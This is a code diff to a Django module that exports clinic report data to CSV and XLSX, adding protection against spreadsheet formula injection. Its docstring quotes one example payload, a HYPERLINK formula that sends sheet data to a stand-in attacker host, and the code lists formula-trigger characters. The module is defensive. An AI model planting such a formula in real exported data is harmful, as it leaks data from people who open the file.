@@ -10,6 +10,12 @@ sheet holds.
 Patients are identified by chart number; names are added only when an administrator asks (DESIGN.md:
 the manager sees aggregates and line-level data, not identities). Every export is audited with its
 filters and row count (Action.EXPORT).
+
+No cell can attack the reader (CSV or formula injection): a spreadsheet runs a cell that starts with
+=, +, -, @, a tab or a carriage return as a formula (a cancel reason `=HYPERLINK("http://evil.test/?"&A1)`
+would send the sheet's data away when clicked). In CSV every text column is wrapped in the SQL itself
+(csv_safe_sql: such a cell gets a leading apostrophe, defusedcsv's rule), so COPY streams it at full speed;
+in XLSX such a cell is written as text with Excel's quote-prefix style, never as a formula.
 """
 
 import tempfile
@@ -28,6 +34,9 @@ from audit.services import record
 from .filters import XLSX_ROW_LIMIT, ExportTooLarge
 
 CHUNK_BYTES = 64 * 1024
+# What makes a spreadsheet read a cell as a formula (OWASP "CSV injection").
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+TEXT_FIELDS = {"CharField", "TextField", "EmailField", "SlugField", "URLField"}
 MAX_WINDOW_DAYS = 32
 FETCH_ROWS = 5000
 REGISTRY = {}
@@ -74,15 +83,21 @@ class Export:
             given_name=F(f"{self.patient_path}given_name"), family_name=F(f"{self.patient_path}family_name")
         )
 
-    def sql(self, report_filter, *, names=False):
-        """(sql, params, headers): one SELECT whose columns are exactly the headers, in order."""
+    def sql(self, report_filter, *, names=False, csv_safe=False):
+        """(sql, params, headers): one SELECT whose columns are exactly the headers, in order; with
+        csv_safe, every text column neutralised against formula injection (csv_safe_sql)."""
         layout = self.layout(names)
         queryset = self.rows(report_filter)
         if names:
             queryset = self.with_names(queryset)
-        inner, params = queryset.values(*[alias for alias, _ in layout]).query.sql_with_params()
+        values = queryset.values(*[alias for alias, _ in layout])
+        inner, params = values.query.sql_with_params()
         quote = connection.ops.quote_name
-        outer = ", ".join(f"{quote(alias)} AS {quote(header)}" for alias, header in layout)
+        text = text_aliases(values, [alias for alias, _ in layout]) if csv_safe else set()
+        outer = ", ".join(
+            f"{csv_safe_sql(quote(alias)) if alias in text else quote(alias)} AS {quote(header)}"
+            for alias, header in layout
+        )
         # Aliases and headers are the export class's own constants, quoted; values stay parameters.
         sql = f"SELECT {outer} FROM ({inner}) AS export_rows"  # noqa: S608
         return sql, params, [header for _, header in layout]
@@ -92,6 +107,43 @@ class Export:
 
     def filename(self, report_filter, extension):
         return f"{self.key}-{report_filter.start:%Y%m%d}-{report_filter.end:%Y%m%d}.{extension}"
+
+
+def text_aliases(queryset, aliases):
+    """The aliases of a values() queryset whose database type is text (where a formula can hide)."""
+    query = queryset.query
+    text = set()
+    for alias in aliases:
+        if alias in query.annotations:
+            field = query.annotations[alias].output_field
+        else:
+            field = queryset.model._meta.get_field(alias)
+        if field.get_internal_type() in TEXT_FIELDS:
+            text.add(alias)
+    return text
+
+
+def csv_safe_sql(column):
+    """SQL for a text column whose value starting with = + - @ tab or CR gets a leading apostrophe, which
+    spreadsheets show as text and never run (defusedcsv's rule, done by PostgreSQL so COPY stays fast).
+    ascii() reads the first character's code without making a substring: measured cheaper than left()
+    (docs/benchmarks.md)."""
+    return f"CASE WHEN ascii({column}) IN (9, 13, 43, 45, 61, 64) THEN chr(39) || {column} ELSE {column} END"
+
+
+def xlsx_cell(sheet, value):
+    """One XLSX cell: a datetime without zone (what a spreadsheet shows), and a string that a spreadsheet
+    would read as a formula written as text with the quote-prefix style (so editing it keeps it text)."""
+    from openpyxl.cell import WriteOnlyCell
+
+    if isinstance(value, datetime):
+        return value.replace(tzinfo=None)
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        cell = WriteOnlyCell(sheet, value=value)
+        cell.data_type = "s"
+        cell.quotePrefix = True
+        return cell
+    return value
 
 
 def check_names_allowed(user, names):
@@ -153,7 +205,7 @@ def stream_csv(export, report_filter, *, user, names=False, request=None):
     """
     check_names_allowed(user, names)
     statements = (
-        (*export.sql(window, names=names)[:2], number == 0)
+        (*export.sql(window, names=names, csv_safe=True)[:2], number == 0)
         for number, window in enumerate(windows(report_filter))
     )
     outcome = {}
@@ -215,7 +267,7 @@ def build_xlsx(export, report_filter, *, user, names=False, request=None, limit=
             rows += 1
             if rows > limit:
                 raise ExportTooLarge(too_large_message(rows, limit))
-            sheet.append([cell.replace(tzinfo=None) if isinstance(cell, datetime) else cell for cell in row])
+            sheet.append([xlsx_cell(sheet, cell) for cell in row])
     file = tempfile.TemporaryFile()  # noqa: SIM115 - FileResponse closes it once sent
     workbook.save(file)
     file.seek(0)
